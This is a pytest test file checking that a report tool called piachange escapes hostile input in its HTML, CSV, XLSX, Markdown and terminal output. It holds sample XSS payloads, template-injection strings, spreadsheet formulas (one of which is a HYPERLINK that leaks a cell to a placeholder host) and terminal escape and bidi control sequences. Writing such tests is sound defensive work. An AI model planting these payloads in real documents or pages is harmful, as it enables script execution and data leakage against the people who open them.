"""Hostile assessment text stays text in every output format, end to end through ``piachange report``.

HTML: markup, attributes and template syntax are shown, never interpreted. CSV: no cell starts
like a formula. XLSX: every cell is a string, never a formula. Markdown: the table keeps its columns.
"""

from __future__ import annotations

import csv
import html.parser
import io
import json
import os
import pathlib
import re
import sys
import time
import zipfile
from typing import Any, Callable

import openpyxl
import pytest

from piachange.cli import main
from piachange.report import Options, build_report

from conftest import Repo
from docs_factory import base, text

# item -> hostile value (the key path inside seed 002)
PAYLOADS: dict[tuple[str, ...], str] = {
    ("cover", "title"): '<script>alert("title")</script>',
    ("cover", "organization"): '"><img src=x onerror=alert(1)>',
    ("basic", "department", "name"): "{{ 7*191 }}",
    ("basic", "department", "head_title"): "{% for i in range(3) %}ループ{% endfor %}",
    ("basic", "affair", "name"): '=HYPERLINK("http://example.invalid/?"&A1,"詳細")',
    ("basic", "other_bodies", "names"): "+1+1",
    ("basic", "mynumber_use", "legal_basis"): "-2+3",
    ("basic", "linkage", "legal_basis"): "@SUM(A1:A2)",
    ("cover", "special_notes"): "\t=1+1",
    ("basic", "affair", "description"): "a | b\n| c |\n</td></tr></table><b>太字</b>",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_FILE = 'assessments/"><svg onload=alert(2)>.toml'
HOSTILE_SUBJECT = "<script>alert('commit')</script> =1+1"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Repo:
    """A repository whose second commit writes every payload (and a hostile file name and subject)."""
    repo = Repo(tmp_path_factory.mktemp("safe") / "repo")
    repo.write(HOSTILE_FILE, text(base()))
    repo.commit("初版")
    d = base()
    for path, value in PAYLOADS.items():
        node = d
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = value
    repo.write(HOSTILE_FILE, text(d))
    repo.commit(HOSTILE_SUBJECT)
    return repo


@pytest.fixture
def report(hostile: Repo, monkeypatch: pytest.MonkeyPatch, capsysbinary: Any) -> Callable[[str], bytes]:
    """Return a runner of ``piachange report --since HEAD~1 --format FMT`` (the real command line, in-process)."""

    def run(fmt: str) -> bytes:
        monkeypatch.chdir(hostile.path)
        monkeypatch.setattr(sys, "argv", ["piachange", "report", "--since", "HEAD~1", "--format", fmt])
        with pytest.raises(SystemExit) as done:
            main()
        out, err = capsysbinary.readouterr()
        assert (done.value.code or 0, err) == (0, b"")
        return out

    return run


def test_every_payload_is_a_row(report: Callable[[str], bytes]) -> None:
    rows = json.loads(report("json"))["rows"]
    got = {r["path"]: r["after"] for r in rows}
    assert got == {".".join(k): v for k, v in PAYLOADS.items()}


class _Collector(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        (self.scripts if self._in_script else self.text).append(data)


def test_html_shows_markup_and_template_syntax_as_text(report: Callable[[str], bytes]) -> None:
    page = report("html").decode("utf-8")
    doc = _Collector()
    doc.feed(page)
    tags = {t for t, _ in doc.tags}
    assert not tags & {"img", "svg", "b"}, tags
    assert not [(t, a) for t, a in doc.tags for name, _ in a if name.startswith("on")]
    assert not [s for s in doc.scripts if "alert(" in s]
    assert "1337" not in page and "ループループ" not in page  # Jinja2 syntax in data is never evaluated
    shown = "".join(doc.text)
    for value in PAYLOADS.values():
        for line in value.split("\n"):
            assert line.strip() in shown, line
    assert "svg onload=alert(2)>.toml" in shown


def test_csv_cells_never_start_like_a_formula(report: Callable[[str], bytes]) -> None:
    data = report("csv").decode("utf-8")
    assert data.startswith("\ufeff")
    table = list(csv.reader(io.StringIO(data[1:], newline="")))
    for row in table:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    cells = {c for row in table for c in row}
    for value in PAYLOADS.values():
        assert (("'" + value) if value.startswith(FORMULA_START) else value) in cells, value


def test_xlsx_cells_are_strings_never_formulas(report: Callable[[str], bytes]) -> None:
    raw = report("xlsx")
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    values = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                values.add(cell.value)
    for value in PAYLOADS.values():
        assert value in values, value


def test_markdown_table_keeps_its_columns(report: Callable[[str], bytes]) -> None:
    md = report("md").decode("utf-8")
    table = [line for line in md.splitlines() if line.startswith("|")]
    assert len(table) == 2 + len(PAYLOADS)

    def columns(line: str) -> int:
        return line.replace("\\\\", "").replace("\\|", "").count("|")

    assert {columns(line) for line in table} == {columns(table[0])}
    assert "<script>" not in md and "<img" not in md and "<b>" not in md and "</table>" not in md


def test_a_long_list_joined_by_nakaguro_does_not_stall_the_report(tmp_path: pathlib.Path) -> None:
    repo = Repo(tmp_path / "repo")
    d = base()
    d["cover"]["special_notes"] = "健康管理システム・" * 1000  # 9,000 characters without a break
    repo.write("assessments/kenko.toml", text(d))
    repo.commit("初版")
    d["cover"]["special_notes"] = "宛名管理システム・" + d["cover"]["special_notes"]
    repo.write("assessments/kenko.toml", text(d))
    repo.commit("追記")
    # CPU time, not wall time, so a busy machine does not fail it: linear masking takes about
    # 50 ms here, the quadratic pattern it replaced took 13 s per text
    start = time.process_time()
    [row] = build_report(Options(since="HEAD~1", repo=str(repo.path))).rows
    assert time.process_time() - start < 2
    assert row.change.path == ("cover", "special_notes")


def _run(repo: Repo, *args: str) -> tuple[int, str]:
    import subprocess

    res = subprocess.run([sys.executable, "-m", "piachange", "report", "--since", "HEAD~1", *args], cwd=repo.path,
                         capture_output=True, text=True)
    return res.returncode, res.stderr


def _affair_renamed(repo: Repo, name: str, file: str = "assessments/kenko.toml") -> None:
    """Commit an assessment, then a commit that gives its ①事務の名称 ``name``."""
    repo.write(file, text(base()))
    repo.commit("初版")
    d = base()
    d["basic"]["affair"]["name"] = name
    repo.write(file, text(d))
    repo.commit("事務の名称")


def test_a_character_no_xlsx_can_hold_is_one_line_and_no_file(repo: Repo) -> None:
    _affair_renamed(repo, "健康管理\uffffに関する事務")
    code, err = _run(repo, "--format", "xlsx", "-o", "out.xlsx")
    assert code == 1 and err.count("\n") == 1 and "holds U+FFFF, which an XLSX file cannot hold" in err
    assert not (repo.path / "out.xlsx").exists()
    assert _run(repo, "--format", "csv", "-o", "out.csv")[0] == 0  # kept as it is where it can be


@pytest.mark.parametrize("fmt", ["md", "html", "csv", "json", "xlsx"])
def test_a_file_name_that_is_not_utf8_is_one_line_in_every_format(repo: Repo, fmt: str) -> None:
    _affair_renamed(repo, "健康管理事務（改）", os.fsdecode(b"assessments/\x89\xee.toml"))  # Shift_JIS bytes: git keeps them
    code, err = _run(repo, "--format", fmt, "-o", f"out.{fmt}")
    assert code == 1 and err.count("\n") == 1 and "not UTF-8" in err and "Traceback" not in err, err
    assert not (repo.path / f"out.{fmt}").exists()


@pytest.mark.parametrize("command,fmt", [("report", "md"), ("report", "html"), ("explain", "text")])
def test_control_characters_are_shown_as_pictures_not_sent_to_the_reader(repo: Repo, command: str, fmt: str) -> None:
    # Markdown goes to a terminal by default: an ESC in a value must not drive it, nor a NUL cut the page.
    _affair_renamed(repo, "健康\x1b[31m管理\x07事務\x00です\x7f\n二行目\u202eトセテ\u202c\x9b")
    import subprocess

    res = subprocess.run([sys.executable, "-m", "piachange", command, "--since", "HEAD~1", "--format", fmt],
                         cwd=repo.path, capture_output=True)
    assert res.returncode == 0, res.stderr
    out = res.stdout.decode("utf-8")
    assert not [c for c in out if (ord(c) < 0x20 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f or 0x202a <= ord(c) <= 0x202e], out
    assert re.search(r"\\?\[U\+202E\\?\]トセテ\\?\[U\+202C\\?\]\\?\[U\+009B\\?\]", out), out  # an override shown, not obeyed
    shown = re.sub(r"<[^>]*>", "", out).replace("\\[", "[")  # the text a reader sees
    assert "健康␛[31m管理␇事務␀です␡" in shown
